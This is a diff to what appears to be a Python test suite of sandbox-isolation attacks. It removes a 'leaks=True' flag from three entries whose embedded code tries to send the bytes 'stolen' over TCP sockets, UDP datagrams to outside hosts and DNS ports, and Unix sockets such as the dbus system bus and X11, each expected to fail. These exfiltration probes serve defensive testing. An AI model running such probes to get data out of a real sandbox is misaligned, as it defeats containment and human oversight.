@@ -13,7 +13,6 @@ ATTACKS = [
                 lambda host: socket.create_connection((host, port), timeout=1).sendall(b"stolen"))
         nothing_works((way, host) for way in ways for host in hosts)
         """,
-        leaks=True,
         sample=True,
     ),
     Attack(
@@ -31,7 +30,6 @@ ATTACKS = [
         hosts = ("127.0.0.1", OUTSIDE["address"], "8.8.8.8")
         nothing_works(acts + [(send, host, port) for host in hosts for port in (OUTSIDE["datagrams"], 53)])
         """,
-        leaks=True,
     ),
     Attack(
         "sockets in files and without names",
@@ -45,6 +43,5 @@ ATTACKS = [
                  "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0")
         nothing_works((send, name) for name in names)
         """,
-        leaks=True,
     ),
 ]
